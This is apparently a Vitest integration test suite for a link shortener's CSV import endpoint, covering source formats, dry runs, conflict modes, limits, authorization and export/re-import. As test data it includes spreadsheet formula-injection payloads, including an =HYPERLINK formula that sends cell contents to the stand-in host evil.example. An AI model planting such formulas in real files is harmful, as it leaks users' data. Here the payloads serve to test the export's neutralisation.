// POST /urls/import on real Postgres: each source's format from a small sample file, dry runs,
// the three conflict modes, passwords never imported, every 400, and an export that re-imports
// without losing anything (hostile cells included).
import { env } from "cloudflare:workers";
import { parse } from "csv-parse/sync";
import { afterAll, describe, expect, it } from "vitest";
import { readConfig } from "../../worker/config/env";
import bitlyCsv from "../fixtures/imports/bitly.csv?raw";
import genericCsv from "../fixtures/imports/links.csv?raw";
import shlinkCsv from "../fixtures/imports/shlink.csv?raw";
import yourlsCsv from "../fixtures/imports/yourls.csv?raw";
import {
  callApi,
  callWorker,
  createUrl,
  createUser,
  keyedUser,
  openTestDatabase,
  scrapePrometheus,
  send,
  seriesValue,
  unique,
} from "../harness";

const database = openTestDatabase();
afterAll(() => database.close());

interface Report {
  /** Set on a refusal (4xx). */
  error?: string;
  imported: number;
  rows: number;
  skipped: number;
  skipped_rows: { row: number; reason: string }[];
  failed: number;
  errors: { row: number; error: string }[];
  unknown_columns: string[];
  ignored_columns: string[];
  renamed: number;
  renamed_rows: { row: number; from: string; to: string }[];
  warnings: { row: number; warning: string }[];
  dry_run: boolean;
}

interface Link {
  id: number;
  short_code: string;
  original_url: string;
  title: string | null;
  tags: string[];
  is_active: boolean;
  imported_clicks: number;
  created_at: string;
  user_id: number | null;
}

/** A sample's codes made this run's own (codes are unique across the whole table). */
const withPrefix = (csv: string) => {
  const prefix = unique("i").replaceAll("_", "").slice(-10);
  return { csv: csv.replaceAll("PFX", prefix), prefix };
};

async function post(query: string, csv: string) {
  const answer = await send<Report>("POST", `/urls/import?${query}`, {
    headers: { "Content-Type": "text/csv" },
    body: csv,
  });
  return answer;
}

const linksOf = async (owner: number) => {
  const answer = await callApi("GET", `/urls?user_id=${owner}&per_page=100&page=1`);
  return new Map((answer.body as Link[]).map((link) => [link.short_code, link]));
};

describe("POST /urls/import: each source", () => {
  it("shlink: longUrl, shortCode, title and |-separated tags; an unclaimed domain warned of; a row without a code gets one", async () => {
    const owner = (await createUser()).id;
    const { csv, prefix } = withPrefix(shlinkCsv);
    const answer = await post(`source=shlink&user_id=${owner}`, csv);
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    expect(answer.body).toMatchObject({ imported: 3, failed: 0, unknown_columns: [], ignored_columns: [] });
    // The workspace has not claimed s.example.com: the link lands on its default domain, and the row says so.
    expect(answer.body.warnings).toEqual([
      {
        row: 1,
        warning: `domain "s.example.com" is not one of this workspace's domains: imported on the service's own hosts`,
      },
    ]);
    const links = await linksOf(owner);
    expect(links.get(`${prefix}-docs`)).toMatchObject({
      original_url: "https://example.com/docs/getting-started",
      title: "Getting started",
      tags: ["docs", "onboarding"],
      user_id: owner,
    });
    expect(links.get(`${prefix}-pricing`)?.original_url).toBe("https://example.com/pricing?plan=team");
    const generated = [...links.values()].find((link) => link.title === "Launch post, part 1");
    expect(generated?.short_code).toMatch(/^[A-Za-z0-9]{6}$/);
    expect(generated?.tags).toEqual(["blog"]);
  });

  it("yourls: keyword, url, timestamp and clicks (as imported_clicks, apart in stats); the IP is never stored", async () => {
    const owner = (await createUser()).id;
    const { csv, prefix } = withPrefix(yourlsCsv);
    const answer = await post(`source=yourls&user_id=${owner}`, csv);
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({ imported: 2, failed: 1, ignored_columns: ["ip"] });
    expect(answer.body.errors).toEqual([{ row: 3, error: "invalid url" }]);
    const links = await linksOf(owner);
    const video = links.get(`${prefix}yt1`);
    expect(video).toMatchObject({ imported_clicks: 1532, created_at: "2023-04-01T10:20:30" });
    // Data as the source had it; an export neutralises it again.
    expect(links.get(`${prefix}yt2`)?.title).toBe('=HYPERLINK("http://evil.example","x")');
    const stats = await callApi("GET", `/urls/${video?.id}/stats`);
    expect(stats.body).toMatchObject({ imported_clicks: 1532, total: 0, human: 0 });
    expect((await callApi("GET", `/urls/${video?.id}`)).body.clicks_remaining).toBeNull();
    const stored = await database.db.execute(
      `SELECT count(*)::int AS n FROM events WHERE details LIKE '%203.0.113.9%' OR details LIKE '%198.51.100.7%'`,
    );
    expect(stored.rows[0]).toEqual({ n: 0 });
  });

  it("bitly: the code from the link's path, varying headers, comma-separated tags, '1,204' clicks", async () => {
    const owner = (await createUser()).id;
    const { csv, prefix } = withPrefix(bitlyCsv);
    const answer = await post(`source=bitly&user_id=${owner}`, csv);
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({ imported: 2, failed: 1, ignored_columns: ["custom bitlinks"] });
    expect(answer.body.errors).toEqual([{ row: 3, error: "link: its path holds no single code" }]);
    const links = await linksOf(owner);
    expect(links.get(`${prefix}b1`)).toMatchObject({
      original_url: "https://example.com/spring-sale",
      tags: ["promo", "spring"],
      imported_clicks: 1204,
      created_at: "2024-03-01T09:00:00",
    });
    expect(links.get(`${prefix}b2`)).toMatchObject({ title: null, imported_clicks: 17 });
  });

  it("csv: url, slug, title, tags; unknown columns reported; a password is never imported (the link comes in inactive)", async () => {
    const owner = (await createUser()).id;
    const { csv, prefix } = withPrefix(genericCsv);
    const answer = await post(`source=csv&user_id=${owner}`, csv);
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({ imported: 3, unknown_columns: ["colour"] });
    expect(answer.body.warnings).toEqual([{ row: 2, warning: expect.stringContaining("never imported") }]);
    const links = await linksOf(owner);
    const secret = links.get(`${prefix}-g2`);
    expect(secret?.is_active).toBe(false);
    const row = await database.db.execute(
      `SELECT password_hash FROM urls WHERE id = ${secret?.id} UNION ALL SELECT details FROM events WHERE url_id = ${secret?.id}`,
    );
    expect(JSON.stringify(row.rows)).not.toContain("hunter2");
    expect(links.get(`${prefix}-g1`)).toMatchObject({ is_active: true, tags: ["team"] });
  });
});

describe("POST /urls/import: dry runs and conflicts", () => {
  it("dry_run reports what would happen and writes nothing", async () => {
    const owner = (await createUser()).id;
    const { csv } = withPrefix(shlinkCsv);
    const answer = await post(`source=shlink&user_id=${owner}&dry_run=true`, csv);
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({ dry_run: true, imported: 3 });
    expect((await linksOf(owner)).size).toBe(0);
    expect((await callApi("GET", `/tags?user_id=${owner}`)).body).toEqual([]);
  });

  it("skip (the default), fail (nothing imported) and rename (code-2, code-3...), in the file and against the table", async () => {
    const owner = (await createUser()).id;
    const prefix = unique("c").replaceAll("_", "").slice(-10);
    await post(`source=csv&user_id=${owner}`, `url,slug\nhttps://example.com/1,${prefix}\n`);
    const csv = [
      "url,slug",
      `https://example.com/2,${prefix}`,
      `https://example.com/3,${prefix}`,
      `https://example.com/4,${prefix}-new`,
      "https://example.com/5,health",
    ].join("\n");
    const skipped = await post(`source=csv&user_id=${owner}&dry_run=true`, csv);
    expect(skipped.body).toMatchObject({ imported: 1, skipped: 3 });
    expect(skipped.body.skipped_rows).toEqual([
      { row: 1, reason: "short_code already exists" },
      { row: 2, reason: "short_code already exists" },
      { row: 4, reason: "short_code is reserved" },
    ]);
    const failed = await post(`source=csv&user_id=${owner}&on_conflict=fail`, csv);
    expect(failed.status).toBe(409);
    expect(failed.body.error).toContain("row 1");
    expect((await linksOf(owner)).size).toBe(1);
    const series = (result: string) => `linkscope_imported_rows_total{result="${result}",source="csv"}`;
    const before = await scrapePrometheus();
    const renamed = await post(`source=csv&user_id=${owner}&on_conflict=rename`, csv);
    const after = await scrapePrometheus();
    const added = (result: string) => seriesValue(after, series(result)) - seriesValue(before, series(result), 0);
    expect([added("imported"), added("renamed")]).toEqual([1, 3]);
    expect(renamed.body).toMatchObject({ imported: 4, skipped: 0, renamed: 3 });
    expect(renamed.body.renamed_rows.slice(0, 2)).toEqual([
      { row: 1, from: prefix, to: `${prefix}-2` },
      { row: 2, from: prefix, to: `${prefix}-3` },
    ]);
    expect(renamed.body.renamed_rows[2]).toMatchObject({ row: 4, from: "health", to: "health-2" });
    const links = await linksOf(owner);
    expect(links.get(`${prefix}-3`)?.original_url).toBe("https://example.com/3");
  });

  it("takes a multipart upload too, and refuses a file over MAX_IMPORT_BYTES with a 413 that imported nothing", async () => {
    const owner = (await createUser()).id;
    const { csv, prefix } = withPrefix(shlinkCsv);
    const form = new FormData();
    form.append("file", new File([csv], "shlink-export.csv", { type: "text/csv" }));
    const uploaded = await send<Report>("POST", `/urls/import?source=shlink&user_id=${owner}`, { body: form });
    expect(uploaded.status).toBe(201);
    expect(uploaded.body.imported).toBe(3);
    const other = (await createUser()).id;
    const big = `url,slug\n${Array.from({ length: 200 }, (_, i) => `https://example.com/${i},${prefix}-big-${i}`).join("\n")}\n`;
    const { response, settled } = await callWorker(
      `/urls/import?source=csv&user_id=${other}`,
      { method: "POST", headers: { "Content-Type": "text/csv" }, body: big },
      { MAX_IMPORT_BYTES: "1024" },
    );
    expect(response.status).toBe(413);
    expect((await response.json()) as { error: string }).toEqual({ error: "file too large: the limit is 1024 bytes" });
    await settled();
    expect((await linksOf(other)).size).toBe(0);
  });

  it("answers 400, 403, 409 and 422 errors with what is wrong", async () => {
    const owner = (await createUser()).id;
    for (const [query, body, status, message] of [
      ["", "url\nhttps://example.com\n", 400, "source must be one of"],
      ["source=dub", "url\nhttps://example.com\n", 400, "source must be one of"],
      ["source=csv&dry_run=maybe", "url\nhttps://example.com\n", 400, "dry_run must be true or false"],
      ["source=csv&on_conflict=merge", "url\nhttps://example.com\n", 400, "on_conflict must be one of"],
      ["source=csv&user_id=abc", "url\nhttps://example.com\n", 400, "user_id"],
      ["source=csv&user_id=2000000000", "url\nhttps://example.com\n", 400, "does not exist"],
      ["source=csv&extra=1", "url\nhttps://example.com\n", 400, "unknown field"],
      [`source=shlink&user_id=${owner}`, "url,slug\nhttps://example.com,x\n", 400, "no destination column"],
      [`source=csv&user_id=${owner}`, "", 400, "empty"],
      [`source=csv&user_id=${owner}`, 'url\n"unterminated\n', 400, "malformed CSV"],
      [`source=csv&user_id=${owner}`, "url\nnot a url\nftp://x\n", 422, "no valid rows"],
    ] as const) {
      const answer = await post(query, body);
      expect(answer.status, `${query} ${body}`).toBe(status);
      expect(answer.body.error).toContain(message);
    }
  });

  it("a user's key imports for itself only", async () => {
    const { key, userId, overrides: production } = await keyedUser();
    const own = await callWorkerCsv(`source=csv`, "url\nhttps://example.com/mine\n", key, production);
    expect(own.status).toBe(201);
    const mine = await callApi("GET", "/urls", { key, overrides: production });
    expect(mine.body.map((link: Link) => link.user_id)).toEqual([userId]);
    const other = (await createUser()).id;
    const forOther = await callWorkerCsv(
      `source=csv&user_id=${other}`,
      "url\nhttps://example.com/x\n",
      key,
      production,
    );
    expect(forOther.status).toBe(403);
  });
});

describe("POST /urls/import: what one request may do (issue 27)", () => {
  const rows = (prefix: string, count: number) =>
    `url,slug\n${Array.from({ length: count }, (_, i) => `https://example.com/${i},${prefix}-${i}`).join("\n")}\n`;

  it("a user's key imports at most MAX_IMPORT_ROWS rows (5,000 by default): more is a 413 that imported nothing, dry run or not; the admin key is not held to it", async () => {
    expect(readConfig(env).MAX_IMPORT_ROWS).toBe(5_000);
    const { key, admin, userId, overrides } = await keyedUser({ MAX_IMPORT_ROWS: "3" });
    const prefix = unique("cap").slice(-10);
    for (const query of ["source=csv", "source=csv&dry_run=true"]) {
      const over = await callWorkerCsv(query, rows(prefix, 4), key, overrides);
      expect(over.status, query).toBe(413);
      expect(over.body.error).toBe(
        "too many rows: an API key imports at most 3 rows per request (MAX_IMPORT_ROWS); nothing was imported, split the file",
      );
    }
    expect((await callApi("GET", "/urls", { key, overrides })).body).toEqual([]);
    const within = await callWorkerCsv("source=csv", rows(prefix, 3), key, overrides);
    expect(within.status).toBe(201);
    expect(within.body.imported).toBe(3);
    // The operator's key: only MAX_IMPORT_BYTES bounds it.
    const byAdmin = await callWorkerCsv(`source=csv&user_id=${userId}`, rows(`${prefix}a`, 4), admin, overrides);
    expect(byAdmin.status).toBe(201);
    expect(byAdmin.body.imported).toBe(4);
    // POST /urls/bulk (which writes any owner's rows) is the admin key's alone.
    const bulk = await callWorker(
      "/urls/bulk",
      {
        method: "POST",
        headers: { "Content-Type": "text/csv", Authorization: `Bearer ${key}` },
        body: "short_code,original_url\nx1,https://example.com/\n",
      },
      overrides,
    );
    expect(bulk.response.status).toBe(403);
    await bulk.settled();
  });

  it("a user's dry run tells taken codes only where they are its own: another owner's code reads as a free one", async () => {
    const alice = await keyedUser();
    const bob = await keyedUser();
    const prefix = unique("own").slice(-10);
    const make = async (who: typeof alice, code: string) => {
      const made = await callApi("POST", "/urls", {
        key: who.key,
        overrides: who.overrides,
        body: { original_url: "https://example.com/held", short_code: code },
      });
      expect(made.status).toBe(201);
    };
    await make(alice, `${prefix}-alice`);
    await make(bob, `${prefix}-bob`);
    const csv = [
      "url,slug",
      `https://example.com/1,${prefix}-alice`,
      `https://example.com/2,${prefix}-bob`,
      `https://example.com/3,${prefix}-free`,
    ].join("\n");
    const dryRun = async (onConflict: string, file: string) => {
      const answer = await callWorkerCsv(
        `source=csv&dry_run=true&on_conflict=${onConflict}`,
        file,
        alice.key,
        alice.overrides,
      );
      expect(answer.status, onConflict).toBe(201);
      expect(JSON.stringify(answer.body)).not.toContain("-bob");
      return answer.body;
    };
    // Row 1 (Alice's own code) is reported; row 2 (Bob's) no more than row 3 (free).
    const skipped = await dryRun("skip", csv);
    expect(skipped).toMatchObject({ imported: 2, skipped: 1 });
    expect(skipped.skipped_rows).toEqual([{ row: 1, reason: "short_code already exists" }]);
    const renamed = await dryRun("rename", csv);
    expect(renamed).toMatchObject({ imported: 3, renamed: 1 });
    expect(renamed.renamed_rows).toEqual([{ row: 1, from: `${prefix}-alice`, to: `${prefix}-alice-2` }]);
    const failing = await dryRun("fail", csv.replace(`https://example.com/1,${prefix}-alice\n`, ""));
    expect(failing).toMatchObject({ imported: 2, skipped: 0 });
    // A real run meets Bob's code taken, as POST /urls with it would; Bob's link is untouched.
    const real = await callWorkerCsv("source=csv", csv, alice.key, alice.overrides);
    expect(real.body).toMatchObject({ imported: 1, skipped: 2 });
    expect(real.body.skipped_rows).toEqual([
      { row: 1, reason: "short_code already exists" },
      { row: 2, reason: "short_code already exists" },
    ]);
    const bobs = await callApi("GET", "/urls", { key: bob.key, overrides: bob.overrides });
    expect(bobs.body.map((link: Link) => link.short_code)).toEqual([`${prefix}-bob`]);
    // The admin key sees every owner's codes: its dry run is exact.
    const byAdmin = await callWorkerCsv(
      `source=csv&dry_run=true&user_id=${alice.userId}`,
      csv.replace(`${prefix}-free`, `${prefix}-free2`),
      alice.admin,
      alice.overrides,
    );
    expect(byAdmin.body).toMatchObject({ imported: 1, skipped: 2 });
  });
});

async function callWorkerCsv(query: string, csv: string, key: string, overrides: Record<string, string>) {
  const { response, settled } = await callWorker(
    `/urls/import?${query}`,
    { method: "POST", headers: { "Content-Type": "text/csv", Authorization: `Bearer ${key}` }, body: csv },
    overrides,
  );
  const body = (await response.json()) as Report;
  await settled();
  return { status: response.status, body };
}

describe("export, then import", () => {
  it("re-imports everything an export holds: hostile text, tags, times, settings and clicks", async () => {
    const owner = (await createUser()).id;
    const make = (fields: Record<string, unknown>) => createUrl({ user_id: owner, ...fields });
    const inAYear = new Date(Date.now() + 365 * 86_400_000).toISOString();
    await make({ title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', tags: ['a,"b"', "-minus"] });
    await make({ title: "'=already quoted", tags: ["@at"] });
    await make({ title: "-2+3" });
    await make({ title: 'two\nlines, and "quotes"', max_clicks: 7, expires_at: inAYear, query_forwarding: "merge" });
    await make({
      utm: { source: "news", medium: "email" },
      fallback_url: "https://example.com/fallback",
      expired_url: "https://example.com/expired",
      rules: [{ conditions: [{ type: "os", values: ["ios"] }], destination: "https://example.com/ios" }],
    });
    await make({ password: "correct horse battery", title: "locked" });
    await database.db.execute(
      `UPDATE urls SET clicks_used = 3, imported_clicks = 4 WHERE user_id = ${owner} AND title = '-2+3'`,
    );
    const exported = await callApi("GET", `/urls/export.csv?user_id=${owner}`);
    expect(exported.status).toBe(200);
    const before = parse(exported.body, { columns: true }) as Record<string, string>[];
    // Free the codes: the import must bring back the very same ones.
    await database.db.execute(`UPDATE urls SET short_code = short_code || '-old' WHERE user_id = ${owner}`);
    const copy = (await createUser()).id;
    const report = await post(`source=linkscope&user_id=${copy}`, exported.body);
    expect(report.status, JSON.stringify(report.body)).toBe(201);
    expect(report.body).toMatchObject({ imported: before.length, failed: 0, unknown_columns: [] });
    expect(report.body.ignored_columns).toEqual(["id", "short_url", "user_id", "state", "updated_at", "health_state"]);
    expect(report.body.warnings).toHaveLength(1);
    const after = parse((await callApi("GET", `/urls/export.csv?user_id=${copy}`)).body, { columns: true }) as Record<
      string,
      string
    >[];
    const comparable = (record: Record<string, string>) => {
      const { id: _id, short_url: _url, user_id: _user, updated_at: _updated, ...rest } = record;
      return rest;
    };
    expect(after.map(comparable)).toEqual(
      before.map((record) => ({
        ...comparable(record),
        // Clicks counted there are imported clicks here.
        clicks: "0",
        imported_clicks: String(Number(record.clicks) + Number(record.imported_clicks)),
        // A password never travels: the link comes back inactive, unprotected, until its owner sets one.
        ...(record.password_protected === "true"
          ? { password_protected: "false", is_active: "false", state: "inactive" }
          : {}),
      })),
    );
    const hostile = after.find((record) => record.title?.includes("HYPERLINK"));
    const link = (await callApi("GET", `/urls/${hostile?.id}`)).body as Link;
    expect(link.title).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(link.tags).toEqual(["-minus", 'a,"b"']);
    const quoted = after.find((record) => record.title?.includes("already"));
    expect((await callApi("GET", `/urls/${quoted?.id}`)).body.title).toBe("'=already quoted");
  });
});
